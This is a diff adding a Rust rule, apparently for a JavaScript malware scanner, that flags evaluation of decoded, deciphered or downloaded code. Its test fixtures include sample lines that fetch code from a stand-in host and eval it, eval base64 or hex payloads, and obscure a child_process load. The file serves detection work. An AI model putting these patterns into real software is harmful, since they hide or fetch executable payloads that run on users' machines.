@@ -1,0 +1,97 @@
+use crate::context::FileContext;
+use crate::js::CallFact;
+use crate::report::{Confidence, Finding, Severity};
+use crate::rule::{Rule, RuleMeta, declare_rule};
+
+fn is_code_sink(call: &CallFact) -> bool {
+    let callee = call.callee.as_str();
+    matches!(
+        callee,
+        "eval" | "Function" | "new:Function" | "vm.runInNewContext" | "vm.runInThisContext" | "vm.runInContext"
+            | "vm.compileFunction" | "vm.Script" | "new:vm.Script" | "module._compile" | "Module._compile"
+            | "module.constructor._compile" | "Module.prototype._compile" | "setTimeout" | "setInterval"
+            | "execScript" | "require" | "import"
+    ) || callee.ends_with("._compile")
+        || callee.ends_with(".constructor") && call.arguments.len() == 1
+}
+
+declare_rule! {
+    /// ### What it does
+    /// Finds code evaluation (`eval`, `Function`/`new Function`, `vm.*`, `Module._compile`,
+    /// string `setTimeout`, `require` of a computed name) and grades it by what it is fed:
+    /// decoded data (base64, hex, char codes, deciphered text) or network responses are high,
+    /// file contents are medium, a constant that hides a module name is high.
+    ///
+    /// ### Why is this bad?
+    /// Malware ships its real payload encoded or downloads it, then evaluates it, so that no
+    /// reviewer or scanner sees the code; legitimate libraries almost never evaluate decoded or
+    /// downloaded text.
+    ///
+    /// ### Examples
+    /// Incorrect:
+    /// ```js
+    /// eval(Buffer.from(payload, 'base64').toString());
+    /// ```
+    /// Correct:
+    /// ```js
+    /// const global = new Function('return this')();
+    /// ```
+    DecodedCodeExecution, "decoded-code-execution", DynamicCode
+}
+
+impl Rule for DecodedCodeExecution {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
+        let Some(facts) = file.js else { return };
+        for call in facts.calls.iter().filter(|call| is_code_sink(call)) {
+            // `Function(a, b, body)`: the body is the last argument.
+            let Some(argument) = (if call.callee.contains("Function") { call.arguments.last() } else { call.arguments.first() }) else { continue };
+            let is_require = call.callee == "require" || call.callee == "import";
+            let is_timer = call.callee == "setTimeout" || call.callee == "setInterval";
+            let graded = if argument.remote {
+                Some((Severity::High, Confidence::High, format!("evaluates code downloaded from the network via `{}`", call.callee)))
+            } else if argument.decoded {
+                Some((Severity::High, Confidence::High, format!("evaluates decoded data via `{}`", call.callee)))
+            } else if argument.from_file && !is_require {
+                Some((Severity::Medium, Confidence::Medium, format!("evaluates file contents via `{}`", call.callee)))
+            } else if let Some(constant) = &argument.constant {
+                let hides_module = !is_require && !is_timer && (constant.contains("require") || constant.contains("child_process") || constant.contains("process.mainModule"));
+                hides_module.then(|| (Severity::High, Confidence::Medium, format!("`{}` of a constant hides a module load", call.callee)))
+            } else {
+                None
+            };
+            if let Some((severity, confidence, message)) = graded {
+                out.push(file.finding(&Self::META, severity, confidence, Some(call.offset as usize), message, None));
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tester::test_rule;
+
+    #[test]
+    fn test() {
+        let pass = vec![
+            "const g = new Function('return this')();".into(),
+            "eval('1 + 1');".into(),
+            "const name = cond ? 'a' : 'b'; require(name);".into(),
+            "setTimeout(function () {}, 10);".into(),
+        ];
+        let fail = vec![
+            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());".into(),
+            "const p = atob('Y29uc29sZS5sb2coMSk='); new Function(p)();".into(),
+            "const axios = require('axios'); async function f() { const res = await axios.get('http://h.example/x'); eval(res.data.cookie); } f();".into(),
+            "require('https').get('https://h.example/p', (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });".into(),
+            "const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); const code = d.update(blob, 'hex', 'utf8') + d.final('utf8'); eval(code);".into(),
+            "eval('req' + 'uire')('child_process');".into(),
+            "const vm = require('vm'); vm.runInThisContext(Buffer.from(x, 'hex').toString());".into(),
+        ];
+        test_rule(DecodedCodeExecution::META.name, pass, fail);
+    }
+}
